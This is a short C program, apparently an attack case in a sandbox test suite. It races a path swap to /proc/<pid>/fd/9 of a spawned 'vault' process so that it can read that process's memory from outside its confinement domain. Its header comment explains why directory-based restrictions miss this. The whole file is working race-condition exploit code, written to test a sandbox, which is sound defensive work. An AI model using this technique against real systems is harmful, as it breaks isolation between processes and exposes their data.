/* Swaps a path for a link to memory of another domain, from before that domain is entered: no
 * directory holds that
   memory, so no envelope keeps it away. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static char wanted[64] = "granted";
static volatile int over;

static void *swap(void *none) {
    while (!over) {
        strcpy(path, "granted");
        strcpy(path, wanted);
    }
    return none;
}

int main(void) {
    pthread_t thread;
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pthread_create(&thread, NULL, swap, NULL);
    for (int n = 0; n < 8; n++) {
        pid_t child = fork();
        if (child == 0) {
            char *words[] = {"vault", "memory", NULL};
            close(1);
            execve("./vault", words, words + 2);
            _exit(3);
        }
        snprintf(wanted, sizeof wanted, "/proc/%d/fd/9", child);
        for (double end = now() + 0.1; now() < end;) {
            char data[16] = "";
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            if (read(fd, data, sizeof data - 1) > 0 && !strncmp(data, "vault", 5)) escaped("read its memory");
            close(fd);
        }
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
    }
    over = 1;
    pthread_join(thread, NULL);
    return 0;
}
